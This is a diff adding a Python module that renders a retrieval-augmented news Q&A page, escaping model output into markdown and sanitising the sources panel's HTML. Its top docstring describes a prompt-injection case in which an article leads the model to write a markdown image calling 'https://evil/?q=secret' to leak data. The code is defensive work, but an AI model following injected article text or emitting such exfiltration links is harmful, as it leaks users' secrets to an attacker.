@@ -1,0 +1,204 @@
+"""Everything the page shows, rendered from rag/ objects into safe markdown and HTML.
+
+Article text and model output are untrusted: an article can carry a prompt injection that makes
+the model write `![x](https://evil/?q=secret)`, and the page must not fetch it. So
+
+- chat text is turned into markdown with every ASCII punctuation character backslash-escaped:
+  no markdown image, link, autolink, HTML tag or entity can form, whatever the text holds; the
+  only markup is what this module adds ([n] markers in bold, the "searched for" line);
+- the sources panel is built with every value HTML-escaped, links only for http(s) URLs, and
+  the result passed through nh3 with a small allowlist (no img, no style, no script, no event
+  attributes) as a second line of defence.
+"""
+from __future__ import annotations
+
+import html
+import re
+from datetime import date, datetime
+from typing import Iterable
+from urllib.parse import urlsplit
+
+import nh3
+
+from rag.types import Answer, Citation, Hit
+
+_PUNCT = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation character
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u200b-\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
+_MARKER = re.compile(r"\[(\d+(?:\s*,\s*\d+)*)\]")
+
+ALLOWED_TAGS = {"div", "section", "article", "header", "p", "span", "strong", "em", "mark", "blockquote", "a",
+                "details", "summary", "ol", "ul", "li", "small", "h3", "h4"}
+ALLOWED_ATTRS = {"*": {"class", "id"}, "a": {"href", "title", "target"}}
+
+
+def escape_md(text: str) -> str:
+    """Plain text -> markdown that renders as exactly that text (nothing in it is live)."""
+    text = _CONTROL.sub("", text or "")
+    return _PUNCT.sub(r"\\\1", text)
+
+
+def answer_markdown(text: str, *, searched_for: str | None = None, note: str | None = None,
+                    streaming: bool = False) -> str:
+    """An assistant message: optional "searched for" line, the answer with bold [n] markers, a note."""
+    parts = []
+    if searched_for:
+        parts.append(f"*Searched for: {escape_md(searched_for)}*")
+    body = "".join(
+        f"**\\[{escape_md(piece)}\\]**" if i % 2 else escape_md(piece)
+        for i, piece in enumerate(_MARKER.split(text or ""))
+    )
+    if streaming:
+        body += " ▍"
+    parts.append(body)
+    if note:
+        parts.append(f"*{escape_md(note)}*")
+    return "\n\n".join(p for p in parts if p)
+
+
+def user_markdown(question: str) -> str:
+    return escape_md(question)
+
+
+def timing_note(answer: Answer) -> str:
+    t = answer.timings
+    if answer.abstained and t.ttft_s is None:
+        return f"Searched {len(answer.hits)} passages in {t.total_s:.1f} s"
+    first = f"first words after {t.ttft_s:.1f} s, " if t.ttft_s is not None else ""
+    return f"{first}complete in {t.total_s:.1f} s"
+
+
+# ---------------------------------------------------------------------- sources panel
+
+
+def sources_html(answer: Answer | None, *, pending: str | None = None) -> str:
+    """The sources panel for `answer` (None: the panel before any question)."""
+    if pending is not None:
+        body = f'<p class="src-empty">Searching the articles for: <em>{_e(pending)}</em></p>'
+    elif answer is None:
+        body = ('<p class="src-empty">Ask a question: the passages its answer rests on appear here, '
+                'with the supporting sentence highlighted.</p>')
+    elif answer.abstained:
+        body = ('<p class="src-empty"><strong>No sources.</strong> The articles don\'t say, so no passage '
+                'is cited.</p>') + _searched(answer)
+    elif not answer.citations:
+        body = ('<p class="src-empty"><strong>No passage cited.</strong> Check the answer against the '
+                'passages searched below.</p>') + _searched(answer)
+    else:
+        cards = "".join(citation_card(c) for c in answer.citations)
+        body = f'<div class="src-list">{cards}</div>' + _searched(answer)
+    return clean(f'<section class="sources">{body}</section>')
+
+
+def citation_card(c: Citation) -> str:
+    meta = [m for m in (_e(c.source) if c.source else "", _e(format_date(c.published_at))) if m]
+    link = safe_url(c.url)
+    if link:
+        meta.append(f'<a href="{_e(link)}" target="_blank" title="{_e(link)}">{_e(urlsplit(link).netloc or link)}</a>')
+    return (
+        f'<article class="src-card" id="source-{c.number}">'
+        f'<header><span class="src-num">[{c.number}]</span> <strong class="src-title">{_e(c.title)}</strong></header>'
+        f'<div class="src-meta">{" · ".join(meta) or "outlet and date unknown"}</div>'
+        f'<blockquote class="src-quote">{highlight(c.quote, c.highlight)}</blockquote>'
+        f"</article>"
+    )
+
+
+def _searched(answer: Answer) -> str:
+    cited = {c.chunk_id for c in answer.citations}
+    rest = [h for h in answer.hits if h.chunk.id not in cited]
+    if not rest:
+        return ""
+    items = "".join(_hit_item(h) for h in rest)
+    label = "Other passages searched" if cited else "Passages searched"
+    return f'<details class="src-searched"><summary>{label} ({len(rest)})</summary><ol>{items}</ol></details>'
+
+
+def _hit_item(h: Hit) -> str:
+    c = h.chunk
+    meta = ", ".join(x for x in (c.source or "", format_date(c.published_at)) if x)
+    snippet = c.text if len(c.text) <= 240 else c.text[:240].rsplit(" ", 1)[0] + " …"
+    return (f'<li><strong>{_e(c.title)}</strong> <small>({_e(meta) + ", " if meta else ""}similarity '
+            f'{h.score:.2f})</small><br><span class="src-snippet">{_e(snippet)}</span></li>')
+
+
+def highlight(passage: str, sentence: str, *, context: int = 220) -> str:
+    """The passage, escaped, with the supporting sentence in <mark>. A long passage is cut to
+    the sentence and about `context` characters either side; the whole one folds out below."""
+    passage = _CONTROL.sub("", passage or "")
+    i = passage.find(sentence) if sentence else -1
+    if i < 0:
+        return _e(passage)
+    j = i + len(sentence)
+    a = 0 if i <= context else passage.rfind(" ", 0, i - context) + 1
+    b = passage.find(" ", j + context) if len(passage) - j > context else -1
+    b = len(passage) if b < 0 else b
+    shown = (("… " if a else "") + _e(passage[a:i]) + f"<mark>{_e(passage[i:j])}</mark>" + _e(passage[j:b])
+             + (" …" if b < len(passage) else ""))
+    if a == 0 and b == len(passage):
+        return shown
+    return f'{shown}<details class="src-whole"><summary>Whole passage</summary>{_e(passage)}</details>'
+
+
+def safe_url(url: str | None) -> str | None:
+    """`url` when it is a plain http(s) URL with a host; None for javascript:, data:, relative ..."""
+    if not url:
+        return None
+    url = url.strip()
+    try:
+        parts = urlsplit(url)
+    except ValueError:
+        return None
+    if parts.scheme.lower() not in {"http", "https"} or not parts.netloc or any(ch in url for ch in "\"'<> \\"):
+        return None
+    return url
+
+
+def format_date(value: str | None) -> str:
+    if not value:
+        return ""
+    try:
+        d = datetime.fromisoformat(value.replace("Z", "+00:00"))
+    except ValueError:
+        try:
+            d = date.fromisoformat(value[:10])
+        except ValueError:
+            return value
+    return f"{d.day} {d.strftime('%B %Y')}"
+
+
+def clean(fragment: str) -> str:
+    return nh3.clean(fragment, tags=ALLOWED_TAGS | {"br"}, attributes=ALLOWED_ATTRS, url_schemes={"http", "https"},
+                     link_rel="noopener noreferrer nofollow", strip_comments=True)
+
+
+def _e(text: str | None) -> str:
+    return html.escape(_CONTROL.sub("", text or ""), quote=True)
+
+
+# ---------------------------------------------------------------------- the index
+
+
+def index_summary(manifest: dict) -> str:
+    """'**3 articles** from 2 outlets (A, B), 2 February 2023 to 5 March 2023 · 41 passages' (markdown)."""
+    counts = manifest.get("counts", {})
+    n, chunks = counts.get("articles", 0), counts.get("chunks", 0)
+    sources = manifest.get("sources") or []
+    outlets = f"{len(sources)} outlet{'s' if len(sources) != 1 else ''}"
+    if sources:
+        shown = ", ".join(sources[:5]) + (" …" if len(sources) > 5 else "")
+        outlets += f" ({shown})"
+    dr = manifest.get("date_range")
+    dates = (f"{format_date(dr[0])} to {format_date(dr[1])}" if dr and dr[0] != dr[1]
+             else format_date(dr[0]) if dr else "dates unknown")
+    text = f"{n} article{'s' if n != 1 else ''} from {outlets}, {dates}, {chunks} passages"
+    return f"**Indexed:** {escape_md(text)}"
+
+
+def article_label(title: str, source: str | None, published_at: str | None) -> str:
+    meta = ", ".join(x for x in (source or "", format_date(published_at)) if x)
+    title = title if len(title) <= 90 else title[:87] + "…"
+    return f"{title} ({meta})" if meta else title
+
+
+def report_markdown(lines: Iterable[str]) -> str:
+    return "\n".join(f"- {escape_md(line)}" for line in lines)
